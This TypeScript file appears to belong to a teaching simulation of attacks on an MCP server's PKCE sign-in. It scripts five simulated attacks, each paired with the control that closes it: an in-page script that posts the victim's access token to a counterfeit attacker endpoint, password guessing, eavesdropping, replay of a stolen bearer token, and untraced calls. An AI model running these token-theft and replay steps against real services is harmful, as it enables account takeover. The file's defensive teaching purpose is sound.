import type { Machine } from '../../../machine/machine.ts';
import { eavesdrop } from '../../../machine/run/eavesdrop.ts';
import { attackersServer } from '../../../machine/run/script-in-page.ts';
import { COUNTERFEIT } from '../../../machine/run/server-of.ts';
import { formMessage } from '../../../machine/run/token-request.ts';
import { personNamed } from '../../../machine/run/user-agent.ts';
import { bearerRefusalOf } from '../../../machine/wire/bearer-refusal.ts';
import {
  type Exchange,
  membersOf,
  parameterOf,
  rejectionIn,
  responseOf,
} from '../../../machine/wire/exchange.ts';
import { hasStatus, mcpRequests, runsOf } from '../evidence.ts';
import { bearerOf } from '../token-claims.ts';

/** A line that the person reads, and the attacker’s message that the line describes, if there is one. */
export interface ReadLine {
  text: string;
  writtenFor?: number;
}

export interface Gap {
  name: string;
  what: string;
  /** What the panel says without the control. The default is that the attack works. */
  openWords?: string;
  /** The lines that the person reads in the exchange, if it shows more than a status. */
  reads?(shown: Exchange, log: readonly Exchange[]): ReadLine[];
  /** The control that closes the gap; absent if nothing in the flow closes it. */
  control?: {
    name: string;
    /** What the control does to the attack, for the criterion and for the panel. */
    effect: { criterion: string; words: string };
    closed(log: readonly Exchange[]): Exchange | undefined;
  };
  /** Runs the attack once. @throws RefusedAtServer when the control makes the server refuse. */
  play(machine: Machine, controlled: boolean): Promise<void>;
  open(log: readonly Exchange[]): Exchange | undefined;
}

const LATER_MS = 3600_000;
const SECRET_WORDS = 'the merger is off';

const byAttacker = (log: readonly Exchange[]) => log.filter(({ from }) => from === 'attacker');
/** The attacker's attempts to sign in as Ada without her password. */
const guesses = (log: readonly Exchange[]) => {
  const { username, password } = personNamed('ada');
  return byAttacker(log).filter(
    ({ request }) =>
      parameterOf(request, 'username') === username && parameterOf(request, 'password') !== password,
  );
};
const overheard = (log: readonly Exchange[]) =>
  log.filter(({ from, to }) => from === 'client' && to === 'attacker');
const namesCaller = (exchange: Exchange) => responseOf(exchange)?.body.includes('called whoami') ?? false;

export const worksWithPkce = ({ name }: Pick<Gap, 'name'>): string => `${name}: with PKCE, the attack works`;

/** A control that makes an attack fail, and the texts about this failure. */
const ends = (name: string) => ({
  name,
  effect: {
    criterion: `with ${name}, the attack does not work`,
    words: `With ${name}, the attack does not work`,
  },
});

/** Attacks that succeed despite a perfect verifier, beginning with the attack of a script in the page. */
export const GAPS: readonly [Gap, ...Gap[]] = [
  {
    name: 'Run a script in the page',
    what: 'The attacker’s script runs in the page, through XSS or through a library that the attacker has changed. Every control of this chapter is in place. The script has the rights of the page: it takes the access token and sends it to the attacker, who calls a tool. No control of the flow closes this gap, because the gap is in what runs in the page.',
    async play(machine) {
      const run = machine.start({ middleware: [attackersServer] });
      await run.signIn();
      const token = run.memory.getSnapshot() ?? '';
      await run.send(formMessage(`${run.origin}${COUNTERFEIT}/collect`, { taken: token }));
      await run.attacker().callTool('whoami', {}, token);
    },
    open: (log) =>
      mcpRequests(byAttacker(log), 'tools/call')
        .filter(hasStatus(200))
        .find((call) =>
          overheard(log).some(
            ({ id, request }) => id < call.id && parameterOf(request, 'taken') === bearerOf(call),
          ),
        ),
  },
  {
    name: 'Sign in as another person',
    what: 'The server accepts any password, as development servers do. The attacker types a name and a guess; verifier, challenge and code are all valid.',
    async play(machine, controlled) {
      const run = machine.start({ policy: controlled ? {} : { passwordRequired: false } });
      const attacker = run.attacker({ username: 'ada', password: 'a guess' });
      await attacker.signIn();
      await attacker.callTool('whoami');
    },
    open: (log) => guesses(log).find((exchange) => responseOf(exchange)?.headers.location?.includes('code=')),
    control: {
      ...ends('a sign-in that checks the password'),
      closed: (log) => guesses(log).find((exchange) => rejectionIn(exchange) === 'wrong password'),
    },
  },
  {
    name: 'Eavesdrop on the network',
    what: 'An attacker between the client and the MCP server copies what passes. PKCE has already protected the code of the sign-in. But PKCE encrypts nothing: the attacker reads each tool call that follows.',
    async play(machine, controlled) {
      const run = machine.start({
        middleware: [eavesdrop(machine.log, { server: 'MCP server', tls: controlled })],
      });
      await run.signIn();
      await run.callTool('list_notes', { containing: SECRET_WORDS });
    },
    open: (log) => overheard(log).find(({ request }) => request.body.includes(SECRET_WORDS)),
    control: {
      ...ends('TLS'),
      closed: (log) =>
        overheard(log).find(
          ({ id, request }) =>
            /^[\w+/]+=*$/.test(request.body) &&
            // In the log, the copied call comes right after the original call.
            log.some((sent) => sent.id === id - 1 && sent.request.body.includes(SECRET_WORDS)),
        ),
    },
  },
  {
    name: 'Use a stolen token an hour later',
    what: 'A bearer token works for anyone who holds it. PKCE protected only the code that was exchanged for the token.',
    async play(machine, controlled) {
      const run = machine.start({ policy: controlled ? {} : { accessTokenLifetimeMs: 24 * LATER_MS } });
      await run.signIn();
      await run.callTool('whoami');
      const call = mcpRequests(machine.log.getSnapshot(), 'tools/call').at(-1);
      run.advanceClock(LATER_MS);
      if (call) await run.send(call.request, 'attacker');
    },
    open: (log) => usedLater(log).find(hasStatus(200)),
    control: {
      ...ends('a lifetime of 15 minutes'),
      closed: (log) => usedLater(log).find((call) => bearerRefusalOf(call) === 'expired'),
    },
  },
  {
    name: 'Leave no trace',
    what: 'The attacker calls a tool with a token of the victim. Later the victim asks what was done in the victim’s name. An audit log stops nothing: the question is whether it shows the call afterwards.',
    openWords: 'Without an audit log, nothing shows the call of the attacker',
    reads: auditLines,
    async play(machine, controlled) {
      const run = machine.start({ audit: controlled });
      await run.signIn();
      await run.attacker().callTool('whoami', {}, run.memory.getSnapshot() ?? '');
      await run.callTool('read_audit_log');
    },
    // With an audit log, a report is never empty: the call that reads the log is itself logged.
    open: (log) => auditReports(log).find((report) => entriesIn(report)?.length === 0),
    control: {
      name: 'an audit log',
      effect: {
        criterion: 'with an audit log, the call is seen',
        words:
          'With an audit log, the attack works, and the attacker’s call is in the log. The log names the victim and the victim’s app: only the victim can tell that someone else made this call',
      },
      closed: (log) => auditReports(log).find(namesCaller),
    },
  },
];

/** The attacker's calls with a token that the victim used an hour before. */
function usedLater(log: readonly Exchange[]): Exchange[] {
  return mcpRequests(byAttacker(log), 'tools/call').filter((call) =>
    log.some(
      (earlier) =>
        earlier.from === 'client' &&
        bearerOf(earlier) === bearerOf(call) &&
        call.atMs - earlier.atMs >= LATER_MS,
    ),
  );
}

/** The exchanges in which the victim reads the audit log after the attacker has made a call in the same run. */
function auditReports(log: readonly Exchange[]): Exchange[] {
  return runsOf(log).flatMap((run) => {
    const calls = mcpRequests(run, 'tools/call').filter(hasStatus(200));
    const stolen = byAttacker(calls).find(({ request }) => request.body.includes('whoami'));
    return calls.filter(
      ({ id, request }) => stolen && id > stolen.id && request.body.includes('read_audit_log'),
    );
  });
}

/** The lines of the audit log in a report: which server wrote down which event about whom. */
export function auditLines(report: Exchange, log: readonly Exchange[]): ReadLine[] {
  return (entriesIn(report) ?? []).map((entry) => {
    const { by, event, subject, clientId }: Record<string, unknown> = Object(entry);
    const text = [by, event, subject, clientId].filter(Boolean).join(', ');
    const of = byAttacker(log).find(({ id, serverView }) => id < report.id && wroteDown(serverView, entry));
    return of ? { text, writtenFor: of.id } : { text };
  });
}

/** The entries of the audit log in a report; `undefined` if the report is no list of entries. */
function entriesIn(report: Exchange): readonly unknown[] | undefined {
  const { result }: { result?: unknown } = membersOf(responseOf(report));
  const { structuredContent }: { structuredContent?: unknown } = Object(result);
  const { entries }: { entries?: unknown } = Object(structuredContent);
  return Array.isArray(entries) ? entries : undefined;
}

/** Whether a server wrote down this entry while it responded. */
function wroteDown(serverView: Exchange['serverView'], read: unknown): boolean {
  const { at, by, event, subject }: Record<string, unknown> = Object(read);
  return serverView.some(
    (seen) =>
      seen.kind === 'wrote down' &&
      new Date(seen.entry.atMs).toISOString() === at &&
      seen.entry.by === by &&
      seen.entry.event === event &&
      seen.entry.subject === subject,
  );
}
